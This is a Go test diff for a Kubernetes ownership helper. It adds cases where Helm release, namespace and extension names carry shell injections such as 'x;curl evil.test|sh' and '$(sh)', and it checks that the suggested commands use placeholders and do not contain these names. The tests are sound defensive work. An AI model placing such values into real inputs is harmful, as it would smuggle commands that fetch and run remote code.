@@ -41,6 +41,14 @@ func TestHolderOf(t *testing.T) {
 			live: metav1.ObjectMeta{Annotations: map[string]string{annotationReleaseName: "r", annotationReleaseNamespace: "n"}},
 			want: `Helm release "r" in namespace "n"`, wantWays: "hand the object over: " + handOver + "; or uninstall the release, which deletes all its objects: `helm uninstall r -n n`",
 		},
+		"a Helm release whose name is a command": {
+			live: metav1.ObjectMeta{Annotations: map[string]string{annotationReleaseName: "x;curl evil.test|sh", annotationReleaseNamespace: "$(sh)"}},
+			want: `Helm release "x;curl evil.test|sh" in namespace "$(sh)"`, wantWays: "hand the object over: " + handOver + "; or uninstall the release, which deletes all its objects: `helm uninstall RELEASE -n NAMESPACE`",
+		},
+		"another extension whose name is a command": {
+			live: controlledBy("ClusterExtension", "`sh`"),
+			want: `ClusterExtension "` + "`sh`" + `"`, wantWays: "keep one of the two extensions; deleting \"`sh`\" would delete its CRDs with all custom resources: check `kubectl extension plan NAME --delete` first",
+		},
 		"classic OLM": {
 			reason: "its owner references do not control",
 			live: metav1.ObjectMeta{Labels: map[string]string{
